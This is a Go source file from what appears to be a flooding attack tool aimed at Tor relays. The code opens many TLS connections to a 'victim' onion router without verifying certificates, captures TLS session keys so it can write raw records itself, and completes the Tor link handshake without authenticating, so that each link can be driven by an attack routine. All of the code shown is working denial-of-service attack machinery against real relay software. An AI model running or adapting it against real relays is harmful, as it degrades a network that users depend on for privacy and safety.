package flood

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"strings"
	"time"

	"github.com/chivenet/chive/internal/cell"
	"github.com/chivenet/chive/internal/fault"
)

// link is a client's link that can write any records and cells, without the rules
// of a channel.
type link struct {
	conn *gated
	tls  *tls.Conn // read only
	in   *bufio.Reader
	out  *sealer
	buf  []byte
}

// setupTime bounds a handshake of the attackers'.
const setupTime = 20 * time.Second

// secrets is a key log.
type secrets struct{ strings.Builder }

// openTLS does the TLS handshake of the i-th connection.
func (a *attack) openTLS(ctx context.Context, i int) (*link, error) {
	conn, err := a.dial(ctx, i, a.Victim.OR)
	if err != nil {
		return nil, err
	}
	keys := &secrets{}
	l := &link{conn: conn, tls: tls.Client(conn, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13, KeyLogWriter: keys})}
	hctx, cancel := context.WithTimeout(ctx, setupTime)
	defer cancel()
	if err := l.tls.HandshakeContext(hctx); err != nil {
		conn.Close()
		return nil, fault.Wrap(fault.Network, err)
	}
	if l.out, err = newSealer(l.tls.ConnectionState().CipherSuite, keys.String()); err != nil {
		conn.Close()
		return nil, err
	}
	l.in = bufio.NewReader(l.tls)
	return l, nil
}

// openLink opens a link as a client, which does not authenticate and checks
// nothing.
func (a *attack) openLink(ctx context.Context, i int) (*link, error) {
	l, err := a.openTLS(ctx, i)
	if err != nil {
		return nil, err
	}
	stop := time.AfterFunc(setupTime, func() { l.conn.Close() })
	defer stop.Stop()
	if err := l.greet(a); err != nil {
		l.conn.Close()
		return nil, err
	}
	return l, nil
}

// greet does the link handshake (tor-spec, "Negotiating and initializing
// connections").
func (l *link) greet(a *attack) error {
	if err := l.write(cell.Versions{4, 5}.AppendCell(nil)); err != nil {
		return err
	}
	var head [5]byte // of VERSIONS: circuit IDs have two bytes yet
	if _, err := io.ReadFull(l.in, head[:]); err != nil {
		return fault.Wrap(fault.Network, err)
	}
	if _, err := l.in.Discard(int(binary.BigEndian.Uint16(head[3:]))); err != nil {
		return fault.Wrap(fault.Network, err)
	}
	for {
		b, err := l.in.Peek(cell.VarHeaderLen)
		if err != nil {
			return fault.Wrap(fault.Network, err)
		}
		cmd := cell.Cmd(b)
		if _, err := l.in.Discard(cell.Size(b)); err != nil {
			return fault.Wrap(fault.Network, err)
		}
		if cmd == cell.CmdNetinfo {
			info := cell.Netinfo{Other: a.Victim.OR.Addr()}
			return l.write(cell.AppendFixed(nil, 0, cell.CmdNetinfo, info.Append(nil)))
		}
	}
}

// maxRecord is the most that one record holds.
const maxRecord = 16 << 10

// write sends bytes in as few records as they need.
func (l *link) write(b []byte) error {
	l.buf = l.buf[:0]
	for len(b) > 0 {
		n := min(len(b), maxRecord)
		l.buf = l.out.seal(l.buf, recordApplication, b[:n])
		b = b[n:]
	}
	_, err := l.conn.Write(l.buf)
	return fault.Wrap(fault.Network, err)
}

// links opens the links of the budget, and runs f on each.
func (a *attack) links(ctx context.Context, f func(ctx context.Context, l *link) error) error {
	return a.each(ctx, func(ctx context.Context, i int) error {
		l, err := a.openLink(ctx, i)
		if err != nil {
			return err
		}
		defer l.conn.Close()
		return f(ctx, l)
	})
}

// drop reads and drops input until the link ends, then closes the channel that it
// returns.
func (l *link) drop() <-chan struct{} {
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = io.Copy(io.Discard, l.in) // the writer notices the end itself
	}()
	return done
}
